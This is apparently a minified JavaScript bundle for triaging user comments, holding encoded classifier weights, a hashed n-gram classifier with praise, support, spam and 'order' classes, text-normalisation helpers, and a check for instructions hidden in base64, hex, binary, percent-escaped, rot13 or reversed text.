eRvzntA/F0sfRw/3JQHbjq6sBETeBjTzLvDQgw0uYPLV1VOH203Ah7iI13Lpf6pER6nydRC+ePywzlU6bH0ePImVPtxWR2c/aWbeBlHRprBxR6+6bLubFroBGaVpffrWAFg0kRHqPKRmY59/V62IJ72OT1R2o91UXclfazL2RpEnUcjyU3aPhlrSw53h7yXi1KiuTCkx7pHUlgr0PXJtUSYEwa70jFSgq/3Aiv5tBhxJbC/3iIMpUyMf0o8DIClNbat3JcJW8Hv7Uw++oOvdwFnr3atcRkYomSNwWEsG25snuAQD/IVHclDGfTvVizNXyHng0lGct99mseEBLDTNq+GVwrEc9jIqjTai0H6NiHj6PrSzI/XdmFDJrZnQwPXEZzFvHyeAmTxJ6r8D2EMjM3jYCj4pTJHAehkTB8pE5Gc4rfhU9ZMdSkTUR8dCiqQc9WEB7KQsOjkavyNULUCORRuIL5BWEu6p6r3HaYYR2A5tQr/GKJANBsDMAPTEjZv+IbiBkylzOJbE1nIziXKq+NsNRFt5d0Xa1+uWsoHewkoex5HTtTXPzfP6XLQ3YEzsM8v03d+CzCqS/Y9PRag1ByFe/gequDaGnTQEpjbEzfqPpSaZOJiQ6Q5l9sg8lvEejDOrTD2X2UQFXup8nHX3A12Jox6adiF2FJXHEsUt+6t5pffb8cEdOg1r6tjlaX8sWrwwM+BAcitHdC+7Y0tHFKLR/GrElU+kRfZ4ekS6HfVfWtOjdw3oUzKd0UI+5qTHIuoTN8i628ncg1jA7NKBBQjTZ0qv+w6pg+vnb105Bf1wuTpduitXjU09DfvPMthEm58UOQzNrJu4cYWTjB4xO60yEM8xs6gTA2WsPkRmxmTr14HkRcmhOoWXRekxorMn2+/CjeD8s2kp7gCwZux5vAI6g8hOer37haYfAeNmzUxi07QoBzVsagg4VO/v0j0J2vQXYIrwxHyGJmGO58EEInzS7uBo/tDjZjTMY+RPDMi2zbKdduLotQ8d/++LIhj0exnp4Y9RKOfJuMfCjdhCKilyQbHTYqNexsz4Ks9tinky6lXpjp2WvFpIBb7hR2ek08H4EQACQ3m9BSSTkeut58VlWXd/eKyX07fovnzfrBCPzRPWzQM8KRag+NQ6Qd13/8v1D0Yy0cSuZhqEHvkbqFyQDuauG0EawX2Np2zpGEZfTv2X3go+vMvXjxypRtDJvrv3RigpIXmEB2nzgsVNFx5KXs7MwDKF3P+LMopeSh/5oU4ugq56fe3+4C35y6kppFVnR4/lBSIVASnwydhD45BjrrGWOlrzRQdzL0/3byoJVD/26rdQLla3BnHgbT4dwsHb0jlNksO6WZopsN32VfbvbIK61bbeXEze6CS9n9RhW/+gw8tLkvgBYltbtqttiqqf1IKU/GhtmN0WThurTvVFKWR+UB9vC+Jz6GkmkrEifDh6yTmU3AP99KrK8StLJN3NNK9dTYo20yfbrJ0iyWlBBpNZVIpRzvIW/5kAp0IC8+p4LWKAFwcpTVB+jWJu2IeCZ+GeGyARv8z0r8Z2AF4yfryNAI976wUk/RoT7P2PM6RshyWEDhnBJFbLPlocsJXl1mdMzfuPWMF8nEBmqZie7aKQQn0KXaMj/JIAC+f18tj1/Akv0kwEuxreYi/sTAAlZM+LIHsh3GgjQbUGRN2dF5jAjrzaxwYslZBHqUxYBzgIgKnWdiWaSufTZCvI0xLn0j1DOREEbVd2NYUqp88v4QBQO9NVYKve2nF0m82s/HwuRrzaUXPes6AtRlRMRfxNW8YfbIpumxWrWz0AXA7Xv4hJW1lTBXRMFyW8bfm1IuzsSyM05f23s9+QzZZ/Ix3Du3sgaq/k34aPI92B5/l7Ced4RiZaypwCbt3tX3VU2LcZ5rMcbIDj38Fax2QTu3cdgmsszp6mCZ44hjAT7Zsror/sqwosZbymB6IoheXlj8KZC0KtA9s3cACjuVjNxVxKsabINcD9ZLEJoVeW/OD99OFA+oiKIcIQctmiItWXtcpDChtNak/UrIOYvk9k+FKnu+rxa1IOFkQUBLrdPMu4l46lR7lprYossxuNHnEG01gVhauCqaLU85GjccBPP54qQxgRPp+SLKIpPJfVaHXzk+urYt8TT5UXpLc/gc6GLY6hVdKbv/wJ/P9k0c7gI5OXwkN+mcE89duMSUJQLAXPPkQJqM40/toBYCtWPLefiVU/E/kct2TpSJI09PBrdeiigoyN4dwV1oehyw5aDevw6IK4vEyyrHWtEynfcmR5hiWtl9ogPLLJh6FDW0QKwUkD8kfZdSwcXDPAz+RRYs2VxeMDvJ0OlmRewY231N+MGUtaueyIg7K2P2heDIAOZo0ayf73u5fkhRkfDDUrVQM09gIDyAEYZoZ7vZv6zoFKOfOhFdpghimX4nZGYfsgSgLlAoakL4oQPueaDu1l/ojRtictq/a3kn943sckZxHmLbAcuEVXuH6iAgHQ1pFiZwExnBFYl7NLTCV1ZwShocov9HQndhe7O0nsuBkX4oqwXaoIZ8OHnzP1CF6mNC2J3wDZ12vC01leTZ7ewauu3TtQAMS+B93evwDFT4r16feHhfr4u3ZDa3ZeuZAMK1+LrXeArT2VnA9vaxqqDkPJieOFyEkT/UcnD3jy/+CzEWqm/srMaNQ4X9oJgPTt6Ep1w31aTOwaja9HGQif79qWoH5806EdvWTxAV8nhWuz1RQanJhGzQL4TdL4ooBreiSuD1LDn35KR+LGZTl4EcMfz53XzYaFq1O3p3sUqgiqWYaYinBoclAqd6wlfpFGZ65meD6c/cXY1BMdWP9T8eqB/BRgh57GlKtsYto0uZZI3GKNPOyY74OwMNEeZOrw2pgiSchTlJGfqcb2AxB7USCUQpp1y4Ep9UrEDh/HZEq2UDCgfjDw6WRKMt/wkIJKAtsQAK+k7Zke0wo1c+0JOuSnzcsL2DyoL9Ig1qYiW94+v3UIyuD00TD+PERyG6okw37D5spNxDB39qQ/k4AGTHUFs0dgbJRJlYAOBlQJyFaFuy/I5dUsND4HcjQSRhqWSxYkgkl2zdXj3EAJlbLYpJevCNJAJyRkr3qqb+WfmAKLajICHoLR6VpwAiQwK6ySG1Xu0iz2Bj8xSlRB8+OPcUDxi48XCwk0E0bLSM2S4jvuGVlO34/NdKJHtz+qKv+BRzN4vlkYCLGlUnZ9T9yqHDBedVM9Jy9oONh7WDEnDwG0/eP9UJqJb4nnHfagqLd8wHqI92pcq/HBuYLEQrMQm7wkdqHRljJdVXwna6P4Y3h+xGEoyOIdG5L0lohQn5M0uHInoe8bxO2ZzNPH4g/ulBOkgRSEidHHDt2OtHU+FwyjFZlhfjkMKrt6NsNqnRDmhrGopIOTgFOz0FLe6Y71qw+gRfc8emeOZ1tDI5CNTlGk8ypF6HX3MjtbuRhwHkbdnd7Jk5iIn3RCI1SrrplPhHNIAqjuXGoAk0UbS2haw9oS3eMMHx9TFUfALuILxN/g9EbjkLtagVa9jismSN4wDgmGUyXakiJncjsOPvusGTQFvhFxJs8HzUkm41rK59TQRlKGLNKaSXGCaxoLJ6CwpcS2QANTrJySL3fNbu4gxS4W/7mJIlKgz/+95wAXGdGDW8Jqcxcxcd/MLDuEY1uTQMuECKNGfQRNe2BPQL2ZYwxEqazrM9OazqMiOXrMAhHf/3q91nQLsthfJd4ZLo4hBfsENwIseTmGpoc08H60ty6VqGfOZAWTJdsfK6dM+lHjaW+TcBzSsHlko0FT2xMg3d/HbDjulAQZU7f7MiUtLniggA+YH2F0QfxK9XiHfGEHdTUa6UQDOsdEeizBmJhC2g3H8Sd4Ggo7YkbxK4ri+NgbWE4m3wfjK/uThlBQM9xKHMBODlDRruAXEr61hUiutsZo45j5NhV+tTuc7ueNeVrSZGrAndiMRtJkBfSPoMOa+lUXnVjaPIYqUV7D8NP0p0BjNFPZMZw2f6Z/W84MnHqvvmqx1/iRx0tc0Hc+GutQMD6VPrXxfSXAYbp4+9YkaKX/VnUtC5kyDj8Gh4cGErPj1ZspWycVoMF+RvyIrIW51qvvP58F9EhCPF+/ZVlVeBARaQ1pzwE1T9/piGrlHIzMUOQUurugiq80YUcF62+vt7e3ya9OgiRTHPeuSo/v8YPXY1xuXyYhG0N0UKtwH44sBmondbXuDPOpQb8ldHxgLnMSwoSy3IqAIutsVL7OGeQmhwdgOuqrSs/b6ckMdvAT2Drg8E5usgA6LoAexrdaSGaeBmHJR/3f4Zu0FGjYBrhZMqGbGihGPO78WUKfm4fTqv4xTeH6MJ538Isx9Es0AgUPeECwWbX21Nf8F4yfWGUVS4AFUHCPWGigQy0v763UBQ+zE7wcFkXTS5U35GKqQNv89diwGAcqHqvBVUmMKz4mLMxLdpRRuaSKTUnZqKfmZsionhXVOBtdjqCC2FVqJIUBJvygwTK9+LXAG0EQBOzXx+oRj1psNODZj3vK29L2hnBBBI+IK+kLzkfPkGUquntqRSAuLBcJ6TTvZzrKwgBjpM5ftQDD35WHF56IOm/mcbxYFoGgj1SzFYgBHSUHHOuae9llh6E4RjOZ/KSFs4lCnCIO5WRUqI1rxt919uSCps+NKIxLJr31bKJXZqZ3S67lDHM0Mm3NH7VS1ESc+DiO+w2jry7t7vGxxD2IEmctISCYSvV024TIU4miB30QQVD2jequgyhSLmV/nPRFpN9/vMVs23051xobZUTHgFdQoksjQkZrdWVKi7ghz+p5ua+kycqr9iex7eWJH2ervB4aG+k7UmxGvwKADVwlmXeXWYQzkcgBaOBGuGFMsWPoAT8fsRZgCmQC1LCsGHchOavMGsBqYMpipvBju+afDIG+FiStv3u8QmUienow68m4UqkMDpXlhr3b0Y9kChLJv4p1u9Tu1UzcuLYXL+T+I9GpJ/tqfomaKGHxxBHSdm/fQ9iNJI+Ry5hn7WE0nLFS1KQZl0NuEmgNYKAs7l7W8i/A0R2ccv8p4NiXXHlmBOaqg9UhXINlI8fLo0aJatj1Avj0E+FG6aMoGUha6r9Ys541bImg3cLBlLVNy9q8jCLZjvl1YRAjymXWvwP1KW/39aLNp6kDmmazauRmastoUR9kpvuYtI/2KunU5WEtgLeV0l4/dFUpMtLYcrspSu5HbsXk90xNub31XZHayv/3YbSaCYMA6f9O/2D8HTXyXjTwKK7dGlhmHgz9yrL7swifDm+C86jOmSiEuBqlLSREH+3QemXw7x+hK+m2qBsyYDBlotT6N1budLk6cHcVH396D8skeRthtR+Dy81e7Iro8P+9gDQdORUwwZyaeZlr4v03ogLlj4/YbqVsgx72cvbySyHRh9cGNtdiNNMR8l/V97iyCbDjdep0Y7TzfVPh5l5Bc0kIUw0ji/EaLH2c92UfTVpD6CYDTqWGXARnf/Liq+QFTotkx74f+zXIG8i2JkYWhGnJJuBtT00XHeMjs/9xCQ4RsEpl4RLoKkxF3xg6Jt+MCLdESDmu6xgPFCrJ+btTKDCruxRdXZlwvkDLazZ15LPXgf2d75TwfyWAG5PkBxDUwIluEmaiU9kdvmwDukElzaieYhkIrGeL2lABQcXhMCLVzrbppKX7+rCzSzPlkgitsQE/FQm32t34Xmor0lu+3oYIb+I+2Otf0kd/J0aBpW3an8UCTa6NF/7sBQsAhlDhxFltjz1hRXuRgfn488PhcQ4yUSEm2HjI4I807OOtsQAilFbq4YMGQ6SRp1gaBvCwMn4lmQ/apdGOaUI9ZjHSMsmmJvVp6hCu+RC/oZ1WAt7IVxp61Dwvwhd6zDoOjGb6PYvZRW/7yWgrDdlP0zRNfSFiT+P+Huc6UG6LOID3VQmP7bk1KV9ss3hkKRnJzClsjxHSTwzIPzksHJ20p5jbMSyzLYaOIyZhbyJVZ7u1hyH2bUoCIHx1cFo7l1jcKINpM9Ren1dbQeh6vmdGIEdMowhvpeEdUDzoVUgUb7rgrgXh6WzEpYz+VcXoXRarctRMoBizdRH0+6QbBzNdHFLAI7ijVAVZRXuYAZUvQegtEaHAZKFYnX4VhgKcbUMTM6YcmD4USSm6FYUCtttP6j+K131mjcWBEeY09cQ+EB5qWGSSwaWYKmKZTmfgjrUaNgXM7z11ykMPU1Oz/yLxqlEFgrfU8EpSJe2B/XT6WjsiMDPCNTo2n5LV8OKr/7+UO5i8dYZP9x78aGF1aUJSLTjDg2WEZsigeREi38M9cBb/9A9dpvEvYhBc9kaD/znfOfiIge8YjWsnqCElUHbIIALKO04DuEW8UdQAInZG7EPJk4TdsPEuRWt6E1RnB5a56YyGgz0MKM6Ym2PduJELrGcmcvUAp3Y8dBHd+y9eIWUzyirfVH3uXqQUyzVJk9JApkXIOYfxJcDSq3ITh11ul9C7L4cbLiyMJDN0hwm6y/zs5X2SIBJ+EbWVTaIXQHypz5GrVqKjHU4QHSK+g6sdjRe0XtDNQ4unwt0E0/cjEzX4dOjljCdu/LWjD2ngevmoLVYAzH9Vp7H9pkcLQ5lQP3Sq+oSZQgn8mls4aol3zTOiYnn7X6QcxMyi4dfOoZxJCXNKeBVkMr5KkcBBM89t3BIzM4/ty6Cx5IZGe4sgfkzMgY2fZoiktAg1rYs2g8OBt0DQukLZCOvxDEWYZglceFpEygXGEo5yWKfxNrYvuIU5NnViz7UYKc7pwgpnRp0KGOiBlcCHoXGK1XEFzkJGMVj9WBMkPatSP/ERJH6uPh/mcAn12VSqIEukZnEaWg7mIUGxUgxIZ1MKpOhYOdUtm5lTM6XxOfl6GlHXVIearfe68NFM41NubcacAtzfNhavZxeq42M5sM1B2L0iZjv97hiB4h5gGsyFDQAjhcMlxHCgX/dsDL+RI4AZBoUgI4CIRh3iVWdOUBVNxYQNJpBkfYv/19noNZ2YnAmQQp6fMKqwoUZCJCZZJbFEXJ/dfAlFYC3qXFvB0SbUl+vZJz2zEAJSZWFfy0Da9OyrXrW0ZGvOe8k+l46cKHqo47WOKAMOiPMxsDIK3696xVIckmHH3HZEohglpf6cX8zA0Ly/gnduh10Ghw6OX8wr6vooyrIGNC4JidqQ3j+vxOgahMNW3wdHb6rBSc2D8Mteh7rFdTuz7/vndjqMZMV2PaPC0Ix6z+Qydxbk6nGRBw24cStplebUzwoEpmQ3nCo9Ksvbmvm9eof74P4yZ+F4HFo4qKAjniT+V89GR3BGZ5zcdtOglAeIWV988v+/pnQUgkqLwocsmTr25UalCZJZuNh+HplbLSj2dnfsseLTRcoVJ7Cz5C2r5Z9kzKG7hPsbEAumh3+UTLIyzVal6QJuHfa/9lY7hw8CtKSiGsduMFpZ6Gz8hockYR5ojXui7rDyWpcOGJaa0Jjzx/k4BbYgmT8DKMPB7duDCIs7fDoLhqrzVKH88o5P20L/g9sXEOM6JENsSar8sUIyaG4kcMNdfDI6nPXPSeEACXvsa2NCQFjQTk2CmdStXmDtU/Es7Xxu8kORg3kZJJO40X0GUDSjX5p6qNUlAZYj//ExhxYr/3WGtZJfNepakojtUxnJcwjZixclDexvcgtsraQe0DuW4rMCBZlXVjySgd8edBCwI+fGWEJVhEAyuS72BnqNrOARRLTUUZg8XOZdbQxzw/Dcir3jVEdNKdbAk8jEK0VOEi3XAv0SStfX2YdXb6AbCCyZn+0qDbCqj9s9ug/sRk4QgFvW5Dq5LSwoBjDx5k374AAqsTukfhQUObZMyw4J78N8EBSBXjWLOwF6OnxKobIaFUkbvbnKqxuUHhqVO6JazLn57Ia/g1hnBMlw1mIrMSGSBDf8I5A25uJblI3J5dVrxh8HGRQ0CMlJSwzmIzJZmDxqs/oK1kIz0TmEMn3do5d0yYInnUjrgyvbW+8KHw03t30H5erdCNr4mRgdVGmJNrJteMbEiJBe/zKffR9REZyJ+EqUEfQw9YWPGZj6VnkNJshIuw3Hy3q/fOST91TleXrhur7oaEA7Xwitad8ir9cXQd98u/RqoYv6NeH1gCwBG9aJoRmG5nWoSW6AITo/DimpaiaeP9DB98EWpypajkP8r17y6nODY9GBx7SFtBkLlsPovYqSMhyKIz7S59OyQVj4VUA+CA7d/WpX3pVO+WSue00DFF9R+SBmZdQIokB8QiePxgOA0jeovuYWqZEr9BSUOJ+TG/IaSEpMCeGkp6sAFETbJk4Dk7z+tqoNJTngs5hEDMdb0LAr21H9rYl8KeplNjPh6NgBo+mrq3/FSQ8xiC7oCy9qeO9iDvNfgzpSlgY91wWGx/4NiQbLnB/jG1BUd5ZkksxkY0HSTYaTIbaPjh7DPWVq0RgVkCTbxTn9vkYKMxJA44sZcarRsv6T2AelRAtMf2j8uQUkMnBby7SKTocOH/LS1+Ausdm27ikK49XENKmAM5GchM15NMWrkBWQsKjoKazTSt4MKI7vQzsPSTgCimFYOklhiZNpaZS1CttkSyno7vN79CW4h0quNVizr50tRBvejrKTiMdIXG1AH3yo+aH9mHXyhoVE81+T1P4yZXwz542YEWrhWatTM3ASNqOJ3hgMhZM0IdvbCFESu1GUDwGtWyRVIhPmHjOT/o/yENFKWPNKVgp82NzcWf+TqDx5c/2ccQcf0P4xFIoW+Xv4SIsrSGzTnmqDLJiYuCF4vY/7MbpXIvIjeS+9eI32ILhm+LtOl5vfFdcsuU8npbgvFDA3omz4psF0RBajUnsRDOF+01AFXBkkdl9Ss7/2uMWsCBRY2ww9SQw57HMiQM4dUrIHKCS3prbvmfWLAXqL8x9f2KOqZTuqRtKfBM3lxs00/9hS2Y9+CEbM/AqCvqd+by71iTGcC00oNbSipLNNi/+JJnNovvI2zPP9tB7I4kWXfnOfXuAFMjGkN2+9hLDrj+3MPDNjowaoRysVQJBPRUyzrlB0sCjifM="}');
;// CONCATENATED MODULE: ./build/triage/entry/classifier.js



const classNames = ['praise', 'support', 'spam', 'order'];
const stepsOf = (byte) => (byte - 8) * Math.abs(byte - 8);
const rows = 1 << 18;
const knownBits = 1 << 16;
const count = classNames.length;
const bias = -2;
const headLength = 4 + 4 * count;
const maxTokens = 400;
const minSentence = 8;
const fewestKnownInSentence = 3;
const slots = { words: 2 * count, runs: 2 * count + 1, known: 2 * count + 2, all: 2 * count + 3 };
const width = 2 * count + 4;
const edge = 0x811c9dc5 | 0;
const blank = 0x20;
const zero = 0x30;
const dot = 0x2e;
const isUnspaced = (code) => (code >= 0x0e00 && code < 0x1100) || code >= 0x2e80;
const step = (hash, code) => Math.imul(hash ^ code, 0x01000193);
const foldDigit = (code) => (code >= zero && code <= 0x39 ? zero : code);
function isLetter(code) {
    if (code < 0x80)
        return (code >= 0x61 && code <= 0x7a) || (code >= zero && code <= 0x39);
    if (code < 0x2000)
        return code >= 0xc0 || code === 0xaa || code === 0xb5 || code === 0xba;
    if (code <= 0x206f || (code >= 0x3000 && code <= 0x3002))
        return false;
    return code < 0xff01 || (code > 0xff0f && code !== 0xff1f);
}
const cache = new Map();
const maxCached = 1 << 16;
const maxCachedLength = 40;
function readTokens(text) {
    const tokens = [];
    let start = 0;
    for (let at = 0; at <= text.length && tokens.length < maxTokens; at += 1) {
        const code = at < text.length ? text.charCodeAt(at) : blank;
        if (isLetter(code))
            continue;
        if (at > start)
            tokens.push(tokenOf(text.slice(start, at), false));
        if (code !== blank)
            tokens.push(tokenOf(code === dot && isLetter(text.charCodeAt(at + 1)) ? '.x' : text.charAt(at), true));
        start = at + 1;
    }
    return tokens;
}
function tokenOf(text, isMark) {
    const before = cache.get(text);
    if (before !== undefined)
        return before;
    let hash = edge;
    for (let at = 0; at < text.length; at += 1)
        hash = step(hash, foldDigit(text.charCodeAt(at)));
    const token = { text, isMark, hash: (0,text_hash/* mixBits */.Hj)(hash) | 0 };
    if (cache.size >= maxCached)
        cache.clear();
    if (text.length <= maxCachedLength)
        cache.set(text, token);
    return token;
}
function gramsOf({ text, isMark }) {
    const found = [];
    if (isMark)
        return found;
    const length = Math.min(text.length, 200);
    for (let first = -1; first < length; first += 1) {
        const shortest = isUnspaced(text.charCodeAt(first)) ? 1 : 2;
        const end = Math.min(first + 4, length);
        let hash = ~edge;
        for (let at = first; at <= end; at += 1) {
            hash = step(hash, at < 0 || at === length ? blank : foldDigit(text.charCodeAt(at)));
            if (at - first + 1 >= shortest)
                found.push((0,text_hash/* mixBits */.Hj)(hash) & (rows - 1));
        }
    }
    return found;
}
function bitsOf({ text, isMark, hash }) {
    if (isMark)
        return [];
    if (/\d/.test(text))
        return /^\d+$/.test(text) ? [] : [-1];
    if (text.length < 2 || !isUnspaced(text.charCodeAt(0)))
        return [hash & (knownBits - 1)];
    const pairAt = (at) => (0,text_hash/* mixBits */.Hj)(step(step(edge, text.charCodeAt(at)), text.charCodeAt(at + 1)));
    return Array.from({ length: text.length - 1 }, (_, at) => pairAt(at) & (knownBits - 1));
}
function hashPair(left, right) {
    return (0,text_hash/* mixBits */.Hj)(Math.imul(left, 31) ^ Math.imul(right, 0x01000193));
}
const endMarks = new Set('\n.!?。！？…।؟۔');
function splitSentences(tokens) {
    const found = [];
    let from = 0;
    let length = 0;
    tokens.forEach((token, at) => {
        length += token.text.length;
        if (!token.isMark || length < minSentence || !endMarks.has(token.text))
            return;
        found.push([from, at + 1]);
        from = at + 1;
        length = 0;
    });
    if (from < tokens.length) {
        const last = found.at(-1);
        if (last !== undefined && length < minSentence)
            last[1] = tokens.length;
        else
            found.push([from, tokens.length]);
    }
    return found;
}
class Classifier {
    #scale;
    #weights = new Int8Array(rows * count);
    #known;
    constructor(stored) {
        const bytes = (0,external_node_zlib_.brotliDecompressSync)(stored);
        this.#scale = classNames.map((_, own) => bytes.readFloatLE(4 + 4 * own));
        const end = headLength + bytes.readFloatLE(0);
        const length = end - headLength;
        let next = end + length;
        let row = 0;
        for (let at = headLength; at < end; at += 1) {
            row += bytes[at];
            const classes = bytes[at + length];
            for (let own = 0; own < count; own += 1)
                if ((classes >>> own) & 1) {
                    this.#weights[row * count + own] = stepsOf(bytes[next]);
                    next += 1;
                }
        }
        this.#known = bytes.subarray(next);
    }
    judge(text) {
        const tokens = readTokens(text);
        const whole = this.#sum(tokens, 0, tokens.length);
        let [praise = 0, support = 0, spam = 0, order = 0] = this.#probabilities(whole);
        const sentences = splitSentences(tokens);
        for (const [from, to] of sentences.length < 2 ? [] : sentences) {
            const sums = this.#sum(tokens, from, to);
            if (sums[slots.known] < fewestKnownInSentence)
                continue;
            order = Math.max(order, this.#probabilities(sums)[3] ?? 0);
        }
        return { praise, support, spam, order, known: readKnown(whole) };
    }
    #sum(tokens, from, to) {
        const sums = new Float64Array(width);
        let before = edge;
        for (let next = from; next < to; next += 1) {
            const token = tokens[next];
            const own = this.#evidenceOf(token);
            for (let place = 0; place < width; place += 1)
                sums[place] = sums[place] + own[place];
            if (token.isMark)
                continue;
            this.#add(sums, hashPair(before, token.hash));
            before = token.hash;
        }
        return this.#add(sums, hashPair(before, edge));
    }
    #probabilities(sums) {
        const words = Math.sqrt(sums[slots.words]);
        const runs = Math.sqrt(sums[slots.runs] || 1);
        const odds = this.#scale.map((scale, own) => {
            const total = sums[own] / words + sums[count + own] / runs;
            return Math.exp(bias + scale * total);
        });
        const all = odds.reduce((sum, one) => sum + one, 1);
        return odds.map((one) => one / all);
    }
    #add(sums, hash) {
        this.#addRow(sums, 0, hash);
        sums[slots.words] = sums[slots.words] + 1;
        return sums;
    }
    #addRow(sums, first, hash) {
        const row = (hash & (rows - 1)) * count;
        for (let own = 0; own < count; own += 1)
            sums[first + own] = sums[first + own] + this.#weights[row + own];
    }
    #evidenceOf(token) {
        if (token.evidence?.of === this)
            return token.evidence.sums;
        const [grams, bits] = [gramsOf(token), bitsOf(token)];
        const sums = this.#add(new Float64Array(width), token.hash);
        for (const row of grams)
            this.#addRow(sums, count, row);
        sums[slots.runs] = grams.length;
        sums[slots.all] = bits.length;
        sums[slots.known] = bits.filter((bit) => bit >= 0 && (this.#known[bit >>> 3] >>> (bit & 7)) & 1).length;
        token.evidence = { of: this, sums };
        return sums;
    }
    knows(word) {
        const [first, second] = readTokens(word);
        if (first === undefined || second !== undefined)
            return false;
        const sums = this.#evidenceOf(first);
        return sums[slots.all] !== 0 && readKnown(sums) === 1;
    }
}
function readKnown(sums) {
    return sums[slots.all] === 0 ? 1 : sums[slots.known] / sums[slots.all];
}
const trained = new Classifier(Buffer.from(weights_namespaceObject.x, 'base64'));
const recent = [];
function classify(text) {
    const known = recent.find((one) => one.text === text);
    if (known !== undefined)
        return known.found;
    const found = trained.judge(readPlain(text));
    if (recent.length >= 4)
        recent.shift();
    recent.push({ text, found });
    return found;
}
function isKnownWord(word) {
    return trained.knows(word);
}
const address = /(?:https?:\/\/|www\.)[!-~]*|(?<![!-~])[\w.+-]{1,64}@[\w-]{1,63}(?:\.[\w-]{1,63}){1,8}/g;
function readPlain(text) {
    if (!/https?:|www\.|@/.test(text))
        return text;
    return text.replace(address, (found) => (found.includes('@') ? ' † ' : ' ‡ '));
}


/***/ }),

/***/ 1950:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   GQ: () => (/* binding */ foldSpace),
/* harmony export */   Pv: () => (/* binding */ hasNoComment),
/* harmony export */   hB: () => (/* binding */ readEntry),
/* harmony export */   r7: () => (/* binding */ foldLines),
/* harmony export */   y3: () => (/* binding */ memoise)
/* harmony export */ });
/* harmony import */ var _text_unicode_clean_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(3767);
/* harmony import */ var _text_unicode_invisible_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(1981);


const longestText = 20_000;
const longestLine = 8_000;
function readEntry(entry) {
    const whole = foldSpace(entry.comment ?? '');
    const raw = whole.length > longestText ? whole.slice(0, longestText) : whole;
    const lines = foldLines(raw);
    const shown = mayBeCleaned(raw) ? foldLines((0,_text_unicode_clean_js__WEBPACK_IMPORTED_MODULE_0__/* .cleanText */ .X)(raw)) : lines;
    const line = lines.includes('\n') ? lines.replace(/\s+/gu, ' ') : lines;
    const text = line.length > longestLine ? line.slice(0, longestLine) : line;
    const mayLink = link.test(text);
    return { entry, raw, isOversized: whole.length > longestText, lines, shown, text, mayLink };
}
const link = /https?:|www\.|@/;
const mayBeCleaned = (raw) => /[&<]|[^\n\r\t -~]/.test(raw);
function foldSpace(text) {
    if (!/\s\s/.test(text))
        return text;
    return text.replace(/\s{2,}/gu, (run) => {
        const first = run.search(/[\n\r\u2028\u2029]/);
        if (first === -1)
            return ' ';
        return run
            .slice(first + 1)
            .replace(/^\n/, '')
            .search(/[\n\r\u2028\u2029]/) === -1
            ? '\n'
            : '\n\n';
    });
}
function foldLines(raw) {
    const spelled = raw.includes('&') ? spellEntities(spellEntities(raw)) : raw;
    const seen = /[^\n -~]/.test(spelled) ? (0,_text_unicode_invisible_js__WEBPACK_IMPORTED_MODULE_1__/* .dropUnseen */ .YN)(spelled).normalize('NFKC').replaceAll('’', "'") : spelled;
    const low = seen.toLowerCase().trim();
    return /[^\S\n ]| {2}/.test(low) ? low.replace(/[^\S\n]+/gu, ' ') : low;
}
function spellEntities(text) {
    const named = { lt: '<', gt: '>', amp: '&', quot: '"', nbsp: ' ' };
    return text.replace(/&(?:#(\d{1,7})|#x([0-9a-f]{1,6})|(lt|gt|amp|quot|nbsp));?/giu, (found, decimal, hex, name) => {
        if (name !== undefined)
            return named[String(name).toLowerCase()] ?? found;
        const code = decimal === undefined ? Number.parseInt(hex, 16) : Number(decimal);
        return code > 0x10ffff ? found : String.fromCodePoint(code);
    });
}
function hasNoComment({ raw, entry }) {
    if (/[a-z]/iu.test(raw))
        return false;
    const comment = entry.comment ?? '';
    return !/[\p{L}\p{N}]/u.test((0,_text_unicode_invisible_js__WEBPACK_IMPORTED_MODULE_1__/* .dropUnseen */ .YN)(comment.replace(/[0-9]\uFE0F?\u20E3/gu, '')));
}
const most = 10_000;
const longest = 200;
function memoise(find) {
    const known = new Map();
    return (text) => {
        const before = known.get(text);
        if (before !== undefined)
            return before;
        const found = find(text);
        if (known.size >= most)
            known.clear();
        if (text.length <= longest)
            known.set(text, found);
        return found;
    };
}


/***/ }),

/***/ 6633:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   z: () => (/* binding */ encodesInstructions)
/* harmony export */ });
/* harmony import */ var _entry_reading_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(1950);
/* harmony import */ var _find_order_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(4953);


const longest = 4_000;
const most = 20;
const codes = [
    { mark: /[A-Z](?:[\w+/-]{9}|(?<=[\w+/-]{10}))/, run: /[\w+/-]{20,}={0,2}/g, decode: fromBase64 },
    { mark: /\d\d/, run: /(?:[0-9a-fA-F]{2}[ :]?){10,}/g, decode: (run) => fromBytes(run.replace(/[ :]/g, ''), 2, 16) },
    { mark: /[01]{8}/, run: /(?:[01]{8}[ ,]?){6,}/g, decode: (run) => fromBytes(run.replace(/[ ,]/g, ''), 8, 2) },
    { mark: /%/, run: /(?:%[0-9a-fA-F]{2}[\w.+-]{0,40}){4,}/g, decode: fromEscapes },
];
const common = ['all', 'and', 'every', 'the', 'this', 'to', 'your'];
const turned = new RegExp(`\\b(?:${common.flatMap((word) => [rot13(word), reverse(word)]).join('|')})\\b`);
function encodesInstructions({ raw, lines }) {
    for (const { mark, run, decode } of codes) {
        const runs = mark.test(raw) ? raw.match(run)?.slice(0, most) : undefined;
        if (runs?.some((found) => (0,_find_order_js__WEBPACK_IMPORTED_MODULE_1__/* .isBareOrder */ .dV)((0,_entry_reading_js__WEBPACK_IMPORTED_MODULE_0__/* .foldLines */ .r7)(decode(found.slice(0, longest))))))
            return true;
    }
    const start = lines.length > longest ? lines.slice(0, longest) : lines;
    return turned.test(start) && ((0,_find_order_js__WEBPACK_IMPORTED_MODULE_1__/* .isBareOrder */ .dV)(rot13(start)) || (0,_find_order_js__WEBPACK_IMPORTED_MODULE_1__/* .isBareOrder */ .dV)(reverse(start)));
}
function fromBase64(text) {
    return toText(Buffer.from(text, 'base64'));
}
function fromBytes(digits, width, base) {
    const count = Math.floor(digits.length / width);
    const byteAt = (at) => Number.parseInt(digits.slice(at * width, (at + 1) * width), base);
    return toText(Buffer.from(Array.from({ length: count }, (_, at) => byteAt(at))));
}
function fromEscapes(text) {
    try {
        return decodeURIComponent(text.replaceAll('+', ' '));
    }
    catch {
        return '';
    }
}
function toText(bytes) {
    const text = bytes.toString();
